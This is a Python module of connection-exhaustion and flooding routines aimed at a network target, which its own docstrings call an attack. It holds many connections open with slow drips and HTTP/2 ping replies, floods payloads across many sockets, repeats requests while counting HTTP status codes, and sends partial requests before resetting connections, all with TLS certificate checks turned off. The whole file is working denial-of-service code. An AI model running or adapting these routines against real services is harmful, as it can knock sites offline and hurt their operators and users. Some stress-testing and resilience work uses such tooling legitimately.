"""Many connections to one target and what can be done with them: hold them, flood through them, ask
the same over and over. One thread, no waiting on any single connection."""

import collections
import select
import socket
import ssl
import time

import frames

SLICE = 1 << 16


class Target:
    """Where the attack goes, and whether it speaks TLS."""

    def __init__(self, address, tls=None):
        host, port = address.split(":")
        self.address, self.alpn = (host, int(port)), tls
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
        if tls:
            self.context.set_alpn_protocols([tls])

    def connect(self, window=None):
        """A new connection that never blocks. `window`: bytes that the other side may send ahead."""
        plain = socket.socket()
        if window:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
        plain.settimeout(20)
        plain.connect(self.address)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection = self.context.wrap_socket(plain) if self.alpn else plain
        connection.setblocking(False)
        return connection


WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


def send(connection, data):
    """As many bytes as fit now."""
    try:
        return connection.send(data)
    except WOULD_BLOCK:
        return 0


def receive(connection):
    """What has come; None when nothing has; raises OSError at the end."""
    try:
        data = connection.recv(SLICE)
    except WOULD_BLOCK:
        return None
    if not data:
        raise ConnectionResetError
    return data


class Held:
    """A connection that is kept open, and does what keeps it open."""

    def __init__(self, target, opening, answers_pings):
        self.connection, self.left = target.connect(), opening
        self.reader = frames.Reader() if answers_pings else None

    def go_on(self, drip):
        """Raises OSError when the other side has had enough."""
        data = receive(self.connection)
        for kind, flags, _, payload in self.reader.frames(data or b"") if self.reader else ():
            if kind == frames.PING and not flags & frames.ACK:
                self.left += frames.frame(frames.PING, frames.ACK, payload=payload)
        if drip and not self.left:
            self.left = drip
        self.left = self.left[send(self.connection, self.left):] if self.left else self.left


def hold(target, connections, seconds, opening, drip=b"", every=0.2, answers_pings=False):
    """Opens connections and keeps them as long as the other side lets it."""
    began = time.monotonic()
    held = [Held(target, opening, answers_pings) for _ in range(connections)]
    closed, last = 0, 0.0
    while held and time.monotonic() - began < seconds:
        still = []
        for one in held:
            try:
                one.go_on(drip)
                still.append(one)
            except OSError:
                one.connection.close()
                closed, last = closed + 1, time.monotonic() - began
        held = still
        time.sleep(every)
    return {"tried": connections, "closed": closed, "last": round(last, 1)}


def flood(target, connections, seconds, opening, payload, reads=True):
    """Sends the opening and then the payload over and over, on new connections where one is closed."""
    end = time.monotonic() + seconds
    tried, sent = 0, 0
    going = {}
    while time.monotonic() < end:
        while len(going) < connections:
            going[target.connect(None if reads else 2048)] = memoryview(opening + payload)
            tried += 1
        readable, writable, _ = select.select(list(going) if reads else [], list(going), [], 0.1)
        for connection in {*readable, *writable}:
            try:
                if reads:
                    receive(connection)
                count = send(connection, going[connection][:SLICE * 4])
                sent += count
                going[connection] = going[connection][count:] or memoryview(payload)
            except OSError:
                del going[connection]
                connection.close()
    return {"tried": tried, "sent_mib": sent >> 20}


def ask(target, connections, count, request):
    """Sends one request after the other, each on a connection of its own; what was answered how often."""
    answers = collections.Counter()
    going, begun = {}, 0
    while begun < count or going:
        while len(going) < connections and begun < count:
            begun += 1
            going[target.connect()] = memoryview(request)
        readable, writable, _ = select.select(list(going), [c for c, left in going.items() if left], [], 0.1)
        for connection in {*readable, *writable}:
            answer = None
            try:
                answer = receive(connection)
                if not answer:
                    going[connection] = going[connection][send(connection, going[connection]):]
                    continue
            except OSError:
                pass
            answers[status(answer)] += 1
            del going[connection]
            connection.close()
    return {"tried": begun, "answers": dict(answers)}


def status(answer):
    """The status of an answer, or what else it is."""
    if not answer:
        return "closed"
    return answer[9:12].decode("latin-1") if answer.startswith(b"HTTP/1.1 ") else "no HTTP"


def abort(target, count, beginning):
    """Sends the beginning of a request and resets the connection."""
    for _ in range(count):
        connection = target.connect()
        send(connection, beginning)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        connection.close()
    return {"tried": count}
